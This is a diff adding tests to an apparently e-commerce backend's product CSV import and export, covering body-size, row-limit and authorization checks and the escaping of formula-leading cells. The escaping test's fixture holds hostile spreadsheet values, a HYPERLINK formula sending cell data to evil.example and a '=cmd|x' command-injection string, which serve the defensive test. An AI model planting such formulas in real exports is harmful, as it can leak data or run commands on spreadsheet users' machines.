@@ -1,3 +1,7 @@
+import { request as httpRequest } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { Readable } from 'node:stream';
+import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createUser, type TestUser } from '../../../test/factories.ts';
@@ -47,8 +51,14 @@ async function exportCsv(headers: Record<string, string> = admin.headers) {
   return res.body;
 }
 
+const MAX_BYTES = 64 * 1024;
+const MAX_ROWS = 100;
+let port: number;
+
 beforeAll(async () => {
-  server = await createTestServer();
+  server = await createTestServer({
+    env: { CSV_IMPORT_MAX_BYTES: String(MAX_BYTES), CSV_IMPORT_MAX_ROWS: String(MAX_ROWS) },
+  });
   api = http(server);
   [admin, customer] = await Promise.all([createUser(server, { roles: ['ADMIN'] }), createUser(server)]);
   otherStore = newId();
@@ -57,6 +67,8 @@ beforeAll(async () => {
     server.database.db,
   );
   otherAdmin = await createUser(server, { roles: ['ADMIN'], storeId: otherStore });
+  await server.app.listen({ port: 0, host: '127.0.0.1' });
+  port = (server.app.server.address() as AddressInfo).port;
 });
 afterAll(async () => server?.destroy());
 
@@ -182,5 +194,196 @@ describe('CSV export', () => {
     expect(formatAmount(1999, 2)).toBe('19.99');
     expect(formatAmount(5, 2)).toBe('0.05');
     expect(formatAmount(125, 0)).toBe('125');
+  });
+});
+
+/**
+ * Sends the headers and the first 64 KiB of a body declared `length` bytes long, over a real
+ * connection, and waits for the answer: a server that reads (buffers) the body first never answers,
+ * because the rest of the body is never sent.
+ */
+function answerBeforeBody(
+  pathname: string,
+  headers: Record<string, string>,
+  length: number,
+  timeoutMs = 15_000,
+): Promise<{ status: number; body: string }> {
+  return new Promise((resolve, reject) => {
+    let answered = false;
+    const req = httpRequest(
+      {
+        host: '127.0.0.1',
+        port,
+        method: 'POST',
+        path: pathname,
+        headers: { ...headers, 'content-length': String(length) },
+      },
+      (res) => {
+        let body = '';
+        res.on('data', (chunk) => (body += chunk));
+        res.on('end', () => {
+          answered = true;
+          clearTimeout(timer);
+          req.destroy();
+          resolve({ status: res.statusCode!, body });
+        });
+      },
+    );
+    const timer = setTimeout(() => {
+      req.destroy();
+      reject(new Error(`no answer within ${timeoutMs} ms: the server waits for the body`));
+    }, timeoutMs);
+    req.on('error', (error) => {
+      if (!answered) reject(error);
+    });
+    req.write(Buffer.alloc(64 * 1024, 'a'));
+  });
+}
+
+describe('request bodies around the CSV import', () => {
+  const MiB = 1024 * 1024;
+
+  it('answers text/csv on any other route with 415 without reading the body', async () => {
+    for (const route of ['/api/v1/me/addresses', '/api/v1/carts/x/checkout', '/api/v1/admin/products']) {
+      const res = await answerBeforeBody(route, { 'content-type': 'text/csv', ...admin.headers }, 40 * MiB);
+      expect(res.status, route).toBe(415);
+      expect(JSON.parse(res.body)).toMatchObject({ status: 415 });
+    }
+  });
+
+  it('refuses an anonymous import with 401, and a customer with 403, before reading the body', async () => {
+    const route = '/api/v1/admin/products/import';
+    expect((await answerBeforeBody(route, { 'content-type': 'text/csv' }, 10 * MiB)).status).toBe(401);
+    const customerTry = await answerBeforeBody(
+      route,
+      { 'content-type': 'text/csv', ...customer.headers },
+      10 * MiB,
+    );
+    expect(customerTry.status).toBe(403);
+    const json = await answerBeforeBody(route, { 'content-type': 'application/json' }, 10 * MiB);
+    expect(json.status).toBe(401);
+  });
+
+  it('takes no JSON on the import route (415), so its body limit does not open a larger JSON body', async () => {
+    const res = await answerBeforeBody(
+      '/api/v1/admin/products/import',
+      { 'content-type': 'application/json', ...admin.headers },
+      3 * MiB,
+    );
+    expect(res.status).toBe(415);
+  });
+
+  it('refuses a file over CSV_IMPORT_MAX_BYTES with 413, declared or streamed, importing nothing', async () => {
+    const declared = await answerBeforeBody(
+      '/api/v1/admin/products/import',
+      { 'content-type': 'text/csv', ...admin.headers },
+      MAX_BYTES + 1,
+    );
+    expect(declared.status).toBe(413);
+
+    const rows = Array.from(
+      { length: 90 },
+      (_, i) => `big-${i},Big ${i},${'x'.repeat(900)},,,,,TRUE,,,,,BIG-${i},1,1.00,,,,,,,active`,
+    );
+    const body = [HEADER, ...rows].join('\n');
+    expect(Buffer.byteLength(body)).toBeGreaterThan(MAX_BYTES);
+    const streamed = await server.app.inject({
+      method: 'POST',
+      url: '/api/v1/admin/products/import',
+      headers: { ...admin.headers, 'content-type': 'text/csv' },
+      payload: Readable.from([body.slice(0, 30_000), body.slice(30_000)]),
+    });
+    expect(streamed.statusCode).toBe(413);
+    expect(streamed.headers['content-type']).toMatch(/^application\/problem\+json/);
+    expect((await api.get('/products/big-0')).statusCode).toBe(404);
+  });
+
+  it('refuses a file of more than CSV_IMPORT_MAX_ROWS rows with 413, importing nothing', async () => {
+    const rows = Array.from(
+      { length: MAX_ROWS + 1 },
+      (_, i) => `row-${i},Row ${i},,,,,,TRUE,,,,,ROW-${i},1,1.00,,,,,,,active`,
+    );
+    const res = await upload([HEADER, ...rows].join('\n'));
+    expect(res.statusCode).toBe(413);
+    expect(res.json().detail).toMatch(String(MAX_ROWS));
+    expect((await api.get('/products/row-0')).statusCode).toBe(404);
+    const fits = await upload([HEADER, ...rows.slice(0, 3)].join('\n'));
+    expect(fits.json()).toMatchObject({ rows: 3, created: 3 });
+  });
+});
+
+describe('CSV export safety', () => {
+  const formulas = {
+    name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    brand: '-Brand',
+    description: '+1 234 567',
+    tags: ['@SUM(1+1)', 'plain'],
+    sku: '=cmd|x',
+    option: '\tTabbed',
+  };
+
+  it('prefixes formula-leading cells with a quote, and an import takes the quote off again', async () => {
+    const created = await api.post(
+      '/admin/products',
+      {
+        name: formulas.name,
+        brand: formulas.brand,
+        description: formulas.description,
+        tags: formulas.tags,
+        variants: [{ sku: formulas.sku, options: { Style: '@risky' }, price: inr(10_000) }],
+      },
+      admin.headers,
+    );
+    expect(created.statusCode).toBe(201);
+    const quoted = await api.post(
+      '/admin/products',
+      { name: "'=already quoted", variants: [{ sku: 'QUOTED-1', price: inr(10_000) }] },
+      admin.headers,
+    );
+    expect(quoted.statusCode).toBe(201);
+
+    const file = await exportCsv();
+    const records = parse(file, { columns: true }) as Record<string, string>[];
+    const row = records.find((r) => r['Variant SKU'] === `'${formulas.sku}`);
+    expect(row).toMatchObject({
+      Title: `'${formulas.name}`,
+      Vendor: `'${formulas.brand}`,
+      'Body (HTML)': `'${formulas.description}`,
+      Tags: "'@SUM(1+1), plain",
+      'Option1 Value': "'@risky",
+    });
+    for (const record of records) {
+      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(records.find((r) => r['Variant SKU'] === 'QUOTED-1')?.Title).toBe("''=already quoted");
+
+    const inOther = { ...otherAdmin.headers, 'x-store-id': otherStore };
+    expect((await upload(file, inOther)).json()).toMatchObject({ errors: [] });
+    const slug = created.json().slug as string;
+    const copy = (await api.get(`/products/${slug}`, { 'x-store-id': otherStore })).json();
+    expect(copy).toMatchObject({
+      name: formulas.name,
+      brand: formulas.brand,
+      description: formulas.description,
+      tags: formulas.tags,
+    });
+    expect(copy.variants[0]).toMatchObject({ sku: formulas.sku, options: { Style: '@risky' } });
+    const quotedCopy = (
+      await api.get(`/products/${quoted.json().slug}`, { 'x-store-id': otherStore })
+    ).json();
+    expect(quotedCopy.name).toBe("'=already quoted");
+  });
+
+  it('gives a seller only its own products', async () => {
+    const seller = await createUser(server, { roles: ['SELLER'] });
+    const own = await api.post(
+      '/admin/products',
+      { name: 'Seller Own Lamp', variants: [{ sku: 'SELLER-OWN-1', price: inr(5_000) }] },
+      seller.headers,
+    );
+    expect(own.statusCode).toBe(201);
+    const records = parse(await exportCsv(seller.headers), { columns: true }) as Record<string, string>[];
+    expect(records.map((r) => r.Handle)).toEqual([own.json().slug]);
+    expect((await exportCsv()).split('\n').length).toBeGreaterThan(3);
   });
 });
